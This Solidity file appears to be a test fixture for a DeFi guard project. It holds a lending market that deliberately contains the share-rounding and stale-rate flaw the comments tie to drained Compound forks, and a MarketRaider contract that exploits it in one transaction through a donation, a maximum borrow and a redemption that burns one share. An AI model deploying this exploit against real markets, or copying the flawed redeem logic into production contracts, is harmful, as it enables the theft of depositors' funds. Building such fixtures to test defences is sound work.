// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.20;

import { ICordonGuard } from "../src/ICordonGuard.sol";
import { Guardable } from "./Guardable.sol";
import { TestToken } from "./TestToken.sol";

/// @title A lending market with one asset to borrow and several collaterals, each worth as much as it, unit for unit.
/// @notice Deliberately has what emptied the markets of Compound's copies in 2023 and 2024: collateral is counted in shares of the market's
/// balance, a redemption rounds the burnt shares down, and solvency afterwards is seen at the rate before. In a market without other
/// depositors whoever holds two shares, and donates, borrows against both and redeems both worths by burning one.
contract LendingMarket is Guardable {
    error Undercollateralised(address account, uint256 debt, uint256 room);
    error InsufficientShares(address account, uint256 shares, uint256 needed);
    error InsufficientDebt(address account, uint256 debt, uint256 repaid);

    event Deposited(address indexed account, TestToken indexed collateral, uint256 amount, uint256 shares);
    event Redeemed(address indexed account, TestToken indexed collateral, uint256 amount, uint256 shares);
    event Borrowed(address indexed account, uint256 amount);
    event Repaid(address indexed account, uint256 amount);

    uint256 private constant ONE = 1e18;
    /// Part of the collateral that may be borrowed, percent.
    uint256 private constant LOAN_TO_VALUE = 80;

    TestToken public immutable asset;

    mapping(address => uint256) public lent;
    mapping(address => uint256) public debt;
    mapping(TestToken => uint256) public totalShares;
    mapping(TestToken => mapping(address => uint256)) public shares;

    constructor(TestToken asset_, address owner_, uint24 scope_) Guardable(owner_, scope_) {
        asset = asset_;
    }

    /// Collateral per share, 18 decimals.
    function rate(TestToken collateral) public view returns (uint256) {
        uint256 total = totalShares[collateral];
        return total == 0 ? ONE : collateral.balanceOf(address(this)) * ONE / total;
    }

    /// Supplies the asset that others borrow.
    function lend(uint256 amount)
        external
        guarded(scope, ICordonGuard.Action.Deposit, address(asset), amount, msg.sender)
    {
        lent[msg.sender] += amount;
        asset.transferFrom(msg.sender, address(this), amount);
    }

    function withdraw(uint256 amount)
        external
        guarded(scope, ICordonGuard.Action.Withdraw, address(asset), amount, msg.sender)
    {
        lent[msg.sender] -= amount;
        asset.transfer(msg.sender, amount);
    }

    function deposit(TestToken collateral, uint256 amount)
        external
        guarded(scope, ICordonGuard.Action.Deposit, address(collateral), amount, msg.sender)
    {
        uint256 minted = amount * ONE / rate(collateral);
        totalShares[collateral] += minted;
        shares[collateral][msg.sender] += minted;
        collateral.transferFrom(msg.sender, address(this), amount);
        emit Deposited(msg.sender, collateral, amount, minted);
    }

    /// Takes collateral out. Both mistakes are here: the burnt shares are rounded down, and `_requireSolvent` is given the old rate.
    function redeem(TestToken collateral, uint256 amount)
        external
        guarded(scope, ICordonGuard.Action.Withdraw, address(collateral), amount, msg.sender)
    {
        uint256 before = rate(collateral);
        uint256 burnt = amount * ONE / before;
        uint256 held = shares[collateral][msg.sender];
        if (held < burnt) revert InsufficientShares(msg.sender, held, burnt);
        shares[collateral][msg.sender] = held - burnt;
        totalShares[collateral] -= burnt;
        collateral.transfer(msg.sender, amount);
        _requireSolvent(msg.sender, collateral, before);
        emit Redeemed(msg.sender, collateral, amount, burnt);
    }

    /// Borrows against one collateral.
    function borrow(TestToken collateral, uint256 amount)
        external
        guarded(scope, ICordonGuard.Action.Increase, address(asset), amount, msg.sender)
    {
        debt[msg.sender] += amount;
        _requireSolvent(msg.sender, collateral, rate(collateral));
        asset.transfer(msg.sender, amount);
        emit Borrowed(msg.sender, amount);
    }

    function repay(uint256 amount)
        external
        guarded(scope, ICordonGuard.Action.Repay, address(asset), amount, msg.sender)
    {
        if (debt[msg.sender] < amount) revert InsufficientDebt(msg.sender, debt[msg.sender], amount);
        debt[msg.sender] -= amount;
        asset.transferFrom(msg.sender, address(this), amount);
        emit Repaid(msg.sender, amount);
    }

    function _requireSolvent(address account, TestToken collateral, uint256 rate_) private view {
        uint256 room = shares[collateral][account] * rate_ / ONE * LOAN_TO_VALUE / 100;
        if (debt[account] > room) revert Undercollateralised(account, debt[account], room);
    }
}

/// @title Empties the market of its loans in one transaction, by way of a collateral that nobody uses yet.
contract MarketRaider {
    error NotThief(address caller);

    address private immutable thief = msg.sender;

    /// Uses this contract's collateral, which a flash loan could have brought, and gives it back to the thief with the loan.
    function raid(LendingMarket market, TestToken collateral) external {
        if (msg.sender != thief) revert NotThief(msg.sender);
        collateral.approve(address(market), 2);
        market.deposit(collateral, 2);
        collateral.transfer(address(market), collateral.balanceOf(address(this)));
        uint256 donated = collateral.balanceOf(address(market));
        TestToken asset = market.asset();
        uint256 there = asset.balanceOf(address(market));
        uint256 most = donated * 39 / 100;
        market.borrow(collateral, there < most ? there : most);
        // One share is worth half; asking for all but one unit burns one share only.
        market.redeem(collateral, donated - 1);
        asset.transfer(thief, asset.balanceOf(address(this)));
        collateral.transfer(thief, collateral.balanceOf(address(this)));
    }
}
